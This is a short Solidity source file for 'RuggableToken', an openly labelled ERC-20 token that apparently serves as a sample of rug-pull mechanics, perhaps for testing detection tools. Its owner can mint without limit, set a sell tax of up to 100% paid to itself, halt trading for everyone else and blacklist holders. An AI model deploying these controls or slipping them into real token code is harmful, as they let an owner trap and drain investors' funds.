// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Erc20} from "./base/Erc20.sol";
import {Owned} from "./base/Owned.sol";

/// @title A token that trades honestly until its owner decides otherwise.
/// @dev The owner can mint without limit, raise the tax on sales to 100 %, stop trading for all but itself and
/// blacklist holders. Nothing is switched on at first. Sales are transfers to the pair named by `setPair`.
contract RuggableToken is Erc20, Owned {
    address public pair;
    uint256 public sellTax;
    bool public tradingEnabled = true;
    mapping(address => bool) public isBlacklisted;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_) {
        _describe(name_, symbol_, 18);
        _setOwner(owner_);
        _mint(owner_, supply);
    }

    function setPair(address next) external onlyOwner {
        pair = next;
    }

    function mint(address to, uint256 value) external onlyOwner {
        _mint(to, value);
    }

    function setSellTax(uint256 percent) external onlyOwner {
        require(percent <= 100);
        sellTax = percent;
    }

    function setTradingEnabled(bool enabled) external onlyOwner {
        tradingEnabled = enabled;
    }

    function setBlacklisted(address account, bool listed) external onlyOwner {
        isBlacklisted[account] = listed;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!isBlacklisted[from], "blacklisted");
        require(tradingEnabled || from == owner || to == owner, "trading is not enabled");
        uint256 tax = to == pair && from != owner ? value * sellTax / 100 : 0;
        if (tax > 0) super._move(from, owner, tax);
        super._move(from, to, value - tax);
    }
}
